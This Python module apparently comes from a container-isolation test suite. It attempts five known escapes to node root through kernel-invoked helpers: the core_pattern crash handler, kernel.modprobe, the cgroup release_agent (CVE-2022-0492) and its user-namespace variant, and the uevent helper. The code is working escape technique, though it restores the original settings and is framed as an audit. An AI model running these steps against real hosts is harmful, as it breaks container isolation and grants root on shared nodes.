"""Programs that the kernel itself starts: core dumps, modprobe, release agents, uevents."""

from __future__ import annotations

import contextlib
import os
import signal
import time
from pathlib import Path

from escape import kit
from escape.attempt import CDK, Case, attempt

ROOT_RUNS = "superpowered: it is root on the node already (sheltie)"


def _crash() -> None:
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        time.sleep(5)
        os._exit(0)
    os.waitpid(child, 0)
    time.sleep(1)


@attempt(
    "core-pattern",
    f"{CDK}: mount-procfs; deepce: procfs",
    "names a program of its own as the receiver of core dumps, and crashes",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
    short=True,
)
def core_pattern(case: Case) -> str:
    path = "/proc/sys/kernel/core_pattern"
    program = kit.payload(case.token)
    before = Path(path).read_text()
    kit.put(path, f"|{program}")
    try:
        _crash()
    finally:
        kit.put(path, before)
    return "crashed"


@attempt(
    "modprobe-path",
    "kernel.modprobe, a classic of kernel exploits; CDK: mount-procfs",
    "names a program of its own as the kernel's modprobe, and asks for an unknown format",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
)
def modprobe_path(case: Case) -> str:
    path = "/proc/sys/kernel/modprobe"
    program = kit.payload(case.token)
    before = Path(path).read_text()
    kit.put(path, program)
    try:
        odd = Path("/run/odd-format")
        odd.write_bytes(b"\xff\xfe\xfd\xfc" + os.urandom(16))
        odd.chmod(0o755)
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                os.execv(odd, ["odd"])
            os._exit(1)
        os.waitpid(child, 0)
        time.sleep(1)
    finally:
        kit.put(path, before)
    return "asked"


@attempt(
    "release-agent",
    f"{CDK}: mount-cgroup; deepce: privileged release_agent (CVE-2022-0492)",
    "mounts a control group hierarchy of version 1 whose release agent is its own program",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    allowed={"admin": ROOT_RUNS},
    short=True,
)
def release_agent(case: Case) -> str:
    program = kit.payload(case.token)
    options = f"none,name={case.token}"
    with kit.mounted("cgroup", "cgroup", 0, options) as where:
        kit.put(f"{where}/release_agent", program)
        child = where / "x"
        child.mkdir()
        kit.put(f"{child}/notify_on_release", "1")
        pid = os.fork()
        if pid == 0:
            kit.write(f"{child}/cgroup.procs", str(os.getpid()))
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(1)
        with contextlib.suppress(OSError):
            child.rmdir()
    return "released"


@attempt(
    "release-agent-user-namespace",
    f"CVE-2022-0492; {CDK}: abuse-unpriv-userns",
    "the same from a user namespace of its own",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    control="fixed in the kernel: a release agent needs the first user namespace",
)
def release_agent_user_namespace(case: Case) -> str:
    program = kit.payload(case.token)
    kit.call("unshare", kit.NEW_USER | kit.NEW_MOUNT | 0x02000000)
    with kit.mounted("cgroup", "cgroup", 0, f"none,name={case.token}") as where:
        kit.put(f"{where}/release_agent", program)
    return "set"


@attempt(
    "uevent-helper",
    f"{CDK}: sysfs; the classic of privileged containers",
    "names a program of its own as the kernel's uevent helper",
    "the kernel ran the program as root of the node",
    seen=kit.RAN,
    control="this kernel has no uevent helper (CONFIG_UEVENT_HELPER is not set)",
)
def uevent_helper(case: Case) -> str:
    with kit.mounted("sysfs", "sysfs") as where:
        kit.put(f"{where}/kernel/uevent_helper", kit.payload(case.token))
        kit.put(f"{where}/class/mem/null/uevent", "change")
        time.sleep(1)
    return "asked"
